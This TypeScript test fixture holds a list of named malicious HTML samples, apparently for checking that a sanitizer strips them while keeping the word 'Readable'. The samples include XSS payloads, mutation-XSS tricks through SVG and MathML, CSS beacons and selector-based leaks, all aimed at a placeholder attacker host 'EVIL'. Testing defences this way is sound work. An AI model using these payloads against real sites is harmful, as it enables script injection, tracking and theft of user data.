import { HOSTILE_ADDRESSES } from './hostile-addresses.fixture.ts';
import { HOSTILE_PARSING } from './hostile-parsing.fixture.ts';
import { HOSTILE_STYLES } from './hostile-styles.fixture.ts';

/** Malicious HTML. `EVIL` stands for the attacker's host. Each example contains the word Readable, which must survive. */
export const HOSTILE_HTML: readonly (readonly [name: string, html: string])[] = [
  [
    'a script',
    '<script>top.location="EVIL/s";fetch("EVIL/f")</script><script src="EVIL/s.js"></script><p>Readable',
  ],
  ['a script tag inside a script tag', '<scr<script>ipt>location="EVIL/a"</scr</script>ipt><p>Readable'],
  [
    'a module script, an import map and speculation rules',
    '<script type=module>import "EVIL/m"</script><script type=importmap>{"imports":{"a":"EVIL/i"}}</script><script type=speculationrules>{"prefetch":[{"urls":["EVIL/sr"]}]}</script><p>Readable',
  ],
  [
    'event handlers',
    '<img src=x onerror="location=\'EVIL/e\'"><body onload="location=\'EVIL/l\'"><p onclick=location="EVIL/c" onmouseover=1 onfocus=1 tabindex=0 autofocus>Readable</p><details open ontoggle="location=\'EVIL/t\'">x</details>',
  ],
  [
    'event handlers with unusual separators',
    '<img/src="x"/onerror=location="EVIL/1"><img src=x\nonerror\n=\nlocation="EVIL/2"><img src=x onerror\x0b=location="EVIL/3"><img src="x"onerror=location="EVIL/4"><p>Readable',
  ],
  [
    'links with script URLs',
    '<a href="javascript:location=\'EVIL/j\'">Readable</a><a href="java&#9;script:alert(1)">x</a><a href="&#1;javascript:alert(1)">x</a><a href=" JaVaScRiPt&colon;alert(1)">x</a><a href="vbscript:x">x</a><a href="data:text/html,<script>location=\'EVIL\'</script>">x</a><a href="blob:EVIL/b">x</a><a href="filesystem:EVIL/b">x</a><a href="view-source:EVIL/v">x</a>',
  ],
  [
    'images with script URLs',
    '<img src="javascript:location=\'EVIL\'"><img src="data:image/svg+xml,<svg onload=location=\'EVIL\' xmlns=\'http://www.w3.org/2000/svg\'/>"><img src="data:text/html,<script>1</script>"><input type=image src=javascript:1><p>Readable',
  ],
  [
    'a script in SVG',
    '<svg onload="location=\'EVIL/svg\'"><script>location="EVIL/2"</script><animate onbegin=location=\'EVIL/3\' attributeName=x></svg><p>Readable',
  ],
  [
    'resources that SVG loads',
    '<svg><image href="EVIL/i"/><use href="EVIL/u#x"/><feImage href="EVIL/fe"/><style>@import "EVIL/c";</style><foreignObject><img src="EVIL/f"></foreignObject></svg><p>Readable',
  ],
  [
    'an animated link in SVG',
    '<svg><a><animate attributeName=href values="javascript:location=\'EVIL\'"/><text y=20>Click</text></a></svg><p>Readable',
  ],
  [
    'a style in SVG that ends in HTML',
    '<svg><style><img src=x onerror="location=\'EVIL/st\'"></style></svg><p>Readable',
  ],
  [
    'MathML that ends in HTML',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=EVIL/m onerror=location=\'EVIL/1\'&gt;"></table></mtext></math><p>Readable',
  ],
  [
    'MathML with links',
    '<math href="javascript:location=\'EVIL\'"><maction actiontype="statusline#EVIL" xlink:href="EVIL/x">CLICK</maction><annotation-xml encoding="text/html"><img src=EVIL/a onerror=1></annotation-xml></math><p>Readable',
  ],
  [
    'a form that tables move',
    '<p>Readable</p><form><math><mtext></form><form><mglyph><style></math><img src=EVIL/f onerror=location="EVIL/2"></style></mglyph></form>',
  ],
  [
    'an element that changes its namespace when it is parsed again',
    '<svg></p><style><a id="</style><img src=EVIL/1 onerror=location=\'EVIL\'>"></svg><p>Readable',
  ],
  [
    'a comment that ends elsewhere when it is parsed again',
    '<!--><img src="EVIL/c" onerror=1>--><!--!><img src="EVIL/c2">--!><img src="EVIL/c3" onerror=1> --><p>Readable',
  ],
  [
    'a noscript that ends early',
    '<noscript><p title="</noscript><img src=EVIL/n onerror=location=1>">Readable</p>',
  ],
  [
    'a title, a textarea and a style that end early',
    '<title><p id="</title><img src=EVIL/t onerror=1>"></title><textarea></textarea><img src=EVIL/ta></textarea><style><p title="</style><img src=EVIL/st onerror=1>"></style><p>Readable',
  ],
  [
    'raw text elements',
    '<xmp><img src=EVIL/x></xmp><noembed><img src=EVIL/n></noembed><noframes><img src=EVIL/f></noframes><iframe><img src=EVIL/i></iframe><p>Readable</p><plaintext><img src=EVIL/p onerror=1>',
  ],
  [
    'a template',
    '<template><script>location="EVIL/t"</script><img src=EVIL/i></template><template shadowrootmode=open><style>@import "EVIL/s"</style><img src=EVIL/sh onerror=1></template><p>Readable',
  ],
  [
    'custom elements and slots',
    '<x-a onclick=1 is=x-b><slot name=a><p>Readable</p></slot></x-a><button is="x-c" onclick="location=\'EVIL\'">x</button>',
  ],
  [
    'a form',
    '<form action="EVIL/form" method=post id=f><input name=a value=1 autofocus><button>Send</button><select><option>1</select><textarea>x</textarea></form><button form=f formaction="EVIL/f2">x</button><p>Readable',
  ],
  [
    'a form around the whole message',
    '<form action="EVIL/form"><p>Readable</p><isindex prompt=x action=EVIL><input type=image src="EVIL/img" formaction="javascript:1">',
  ],
  [
    'meta elements',
    '<meta http-equiv="refresh" content="0;url=EVIL/refresh"><meta http-equiv=Set-Cookie content="a=b"><meta http-equiv="Content-Security-Policy" content="img-src *"><meta name=referrer content=unsafe-url><meta charset=utf-7><p>Readable',
  ],
  ['a base element', '<base href="EVIL/" target="_top"><a href="b">Readable</a><img src="b.png">'],
  [
    'frames',
    '<iframe src="EVIL/f"></iframe><iframe srcdoc="<script>parent.location=\'EVIL\'</script>"></iframe><object data="EVIL/o"><param name=src value=EVIL/p></object><embed src="EVIL/e"><frameset><frame src="EVIL/fr"></frameset><portal src="EVIL/po"></portal><fencedframe src=EVIL/ff></fencedframe><p>Readable',
  ],
  [
    'style sheets and fonts',
    '<link rel=stylesheet href="EVIL/l.css"><style>@import "EVIL/i.css";@import url(EVIL/i2.css);@font-face{font-family:x;src:url(EVIL/f.woff)}p{font-family:x}</style><p>Readable',
  ],
  [
    'prefetched resources',
    '<link rel=preconnect href="EVIL"><link rel=dns-prefetch href="EVIL"><link rel=prefetch href="EVIL/p"><link rel=prerender href=EVIL/pr><link rel=preload as=image href="EVIL/pl"><link rel=modulepreload href=EVIL/mp><link rel=icon href=EVIL/ic><link rel=manifest href=EVIL/ma><a href="EVIL/l" ping="EVIL/ping" attributionsrc="EVIL/as">Readable</a>',
  ],
  [
    'images',
    '<img src="EVIL/i" srcset="EVIL/2 2x" lowsrc="EVIL/lo" dynsrc="EVIL/dy" longdesc="EVIL/ld" attributionsrc="EVIL/as"><picture><source srcset="EVIL/s"><img src="EVIL/p"></picture><img src="//EVIL/x"><img src="\\\\EVIL\\y"><img src=" EVIL/z"><img src="htt\np://EVIL/"><image src="EVIL/im"><p>Readable',
  ],
  [
    'media',
    '<video poster="EVIL/v" src="EVIL/v2"><source src="EVIL/v3"><track src="EVIL/t"></video><audio src="EVIL/a"></audio><bgsound src="EVIL/b"><p>Readable',
  ],
  [
    'backgrounds',
    '<body background="EVIL/b"><table background="EVIL/t"><tr background=EVIL/tr><td background="EVIL/td" style="background:url(EVIL/st)">Readable</table>',
  ],
  [
    'images in styles',
    '<style>body{background:url(EVIL/b)}p::after{content:url("EVIL/c")}li{list-style:url(EVIL/l)}a{cursor:url(EVIL/cu),auto}div{border-image:url(EVIL/bi) 1}i{mask:url(EVIL/m);-webkit-mask-image:url(EVIL/m2);clip-path:url(EVIL/cp);filter:url(EVIL/fi#x);shape-outside:url(EVIL/sh)}</style><p>Readable',
  ],
  [
    'images in other style functions',
    "<p style=\"background:image-set('EVIL/1' 1x);background:-webkit-image-set(url(EVIL/2) 1x);background:cross-fade(url(EVIL/3),url(EVIL/4));background:src('EVIL/5');background:image('EVIL/6');background:paint(x);background:element(#x)\">Readable",
  ],
  [
    'images behind escapes',
    '<style>body{background:\\75rl(EVIL/e)}b{background:u\\72\n l(EVIL/e2)}u{background:\\000055\\000052\\00004C(EVIL/e3)}i{background:url\\28 EVIL/e4)}\\40import "EVIL/e5";@\\69mport "EVIL/e6";@i\\mport url(EVIL/e7);</style><p style="background:u\\72 l(EVIL/e8);background:&#117;rl(EVIL/e9)">Readable',
  ],
  [
    'images behind comments and broken strings',
    '<style>a{background:url/**/(EVIL/c)}b{background:u/**/rl(EVIL/c2)}i{content:"\n;background:url(EVIL/c3)}u{background:url("EVIL/c4\n)}/*</style><p>Readable</p><style>*/p{background:url(EVIL/c5)}</style>',
  ],
  [
    'images in variables',
    '<style>:root{--a:url(EVIL/v);--b:{background:url(EVIL/v2)}}p{background:var(--a);background:var(--x,url(EVIL/v3))}@property --p{syntax:"<image>";inherits:true;initial-value:url(EVIL/v4)}</style><p>Readable',
  ],
  [
    'every kind of at-rule',
    '<style>@namespace url(EVIL/n);@charset "EVIL";@document url(EVIL/d){p{color:red}}@layer a{@import "EVIL/l";}@container(min-width:1px){p{background:url(EVIL/co)}}@media all{@import "EVIL/m";p{background:url(EVIL/m2)}}@supports(background:url(EVIL/s)){p{background:url(EVIL/s2)}}@scope(p){:scope{background:url(EVIL/sc)}}@starting-style{p{background:url(EVIL/ss)}}@keyframes k{from{background:url(EVIL/k)}}@page{background:url(EVIL/pa)}@view-transition{navigation:auto}</style><p style="animation:k 1s">Readable',
  ],
  [
    'selectors that report what they match',
    '<style>a[href^="https://a"]{background:url(EVIL/a)}input[value^=a]{background:url(EVIL/b)}p:hover{background:url(EVIL/hover)}a:visited{background:url(EVIL/visited)}:has(p){background:url(EVIL/has)}@media(max-width:600px){p{background:url(EVIL/w)}}@media(prefers-color-scheme:dark){p{background:url(EVIL/dark)}}@media print{p{background:url(EVIL/print)}}</style><p>Readable <a href="https://a.example">x</a>',
  ],
  [
    'scripts in obsolete styles',
    '<p style="width:expression(location=\'EVIL\');behavior:url(EVIL/b.htc);-moz-binding:url(EVIL/x.xml#a);background:url(javascript:1)">Readable</p><style>p{width:e/**/xpression(1);be\\68avior:url(EVIL/h)}</style>',
  ],
  [
    'boxes that cover the page',
    '<div style="position:fixed;inset:0;z-index:9999;background:white"><a href="EVIL/over">Readable</a></div><div style="position:absolute;top:0;left:0;width:100vw;height:100vh"></div><style>p{po\\73ition:fixed}div{position:/**/sticky}body{*position:absolute}</style>',
  ],
  [
    'values that try to end an attribute',
    '<p title=\'"><img src="EVIL/q">\' style="x:&quot;&gt;&lt;img src=EVIL/q2&gt;">Readable</p><p title="&#34;&#62;<script>1</script>">x</p><p id="&quot; onclick=&quot;location=\'EVIL\'">x</p><img alt="`><img src=EVIL/x onerror=1>">',
  ],
  [
    'values that try to end a style',
    '<style><@import x;/style><img src="EVIL/st" onerror=1></style><style>p{content:"</sty" "le><img src=EVIL/st2 onerror=1>"}\\3c/style><img src=EVIL/x></style><p>Readable',
  ],
  [
    'names that shadow properties of the document',
    '<form name=cookie><input name=body><input name=attributes><input id=parentNode></form><a id=location href="EVIL/cl">x</a><img name=getElementById><p id=documentElement>Readable</p><iframe name=defaultView></iframe><object id=createElement></object>',
  ],
  ['an incomplete tag', '<p>Readable</p><img src="EVIL/half" onerror="location=1"'],
  [
    'characters that browsers ignore',
    '<\0script>location="EVIL/0"</\0script><img sr\0c="EVIL/1" src="EVIL\0/2"><a href="jav\0ascript:1">x</a><img src=x on\0error=1><p>Readable',
  ],
  [
    'characters outside the charset',
    '\ufeff+ADw-script+AD4-location=1+ADw-/script+AD4- \x1b$B<script>\x1b(B location="EVIL" </script><p>Readable</p>\xe9<img src="EVIL/u">',
  ],
  [
    'unmatched end tags and wrong nesting',
    '</body></html></p></table></svg></math><b><i></b><p></i>Readable<table><a href="EVIL/a"><tr><img src="EVIL/i"><td></a></table><select><img src=EVIL/s></select>',
  ],
  [
    'conditional comments',
    '<!--[if gte mso 9]><img src="EVIL/mso"><![endif]--><![if !mso]><p>Readable</p><![endif]><!--[if !mso]><!--><img src="EVIL/x"><!--<![endif]--><?xml:namespace prefix=o ?><?php <img src=EVIL/php> ?>',
  ],
  [
    'plug-ins and manifests',
    '<applet code="EVIL/a" archive=EVIL/b></applet><html manifest="EVIL/m"><head profile=EVIL/p><isindex action=EVIL/i><keygen name=x><marquee onstart=1>Readable</marquee>',
  ],
  [
    'image maps',
    '<img usemap="#m" width=50 height=50 src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><map name=m><area shape=rect coords="0,0,50,50" href="javascript:location=\'EVIL\'"><area href="EVIL/area" target=_top></map><p>Readable',
  ],
  [
    'dialogs and popovers',
    '<dialog open><p>Readable</p></dialog><button popovertarget=p>x</button><div id=p popover=auto onbeforetoggle=location="EVIL">x</div><a href=# command=show-modal commandfor=d>x</a>',
  ],
  [
    'deep nesting',
    `${'<a href="EVIL/1">'.repeat(200)}Readable${'<div>'.repeat(200)}<img src=EVIL/x>${'</div>'.repeat(200)}`,
  ],
  ...HOSTILE_PARSING,
  ...HOSTILE_ADDRESSES,
  ...HOSTILE_STYLES,
];
